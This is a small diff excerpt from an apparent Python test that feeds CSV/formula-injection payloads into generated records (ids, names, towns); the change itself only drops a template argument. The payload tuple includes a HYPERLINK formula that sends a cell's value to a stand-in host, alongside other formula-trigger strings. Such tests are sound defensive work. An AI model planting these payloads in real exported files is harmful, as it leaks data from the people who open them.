@@ -24,7 +24,7 @@ PAYLOADS = ('=HYPERLINK("http://x?leak="&A2,"Voir")', "+1+1", "-2+3", "@SUM(A1)"
 
 def _nasty(n: int = 40):
     """The generated instance with a payload in front of every text: ids, names, towns."""
-    doc = instance_to_dict(generate(n, seed=3, couples=0, maquette="mg-2017"))
+    doc = instance_to_dict(generate(n, seed=3, couples=0))
     count = iter(range(10**6))
 
     def bad(text: str) -> str:
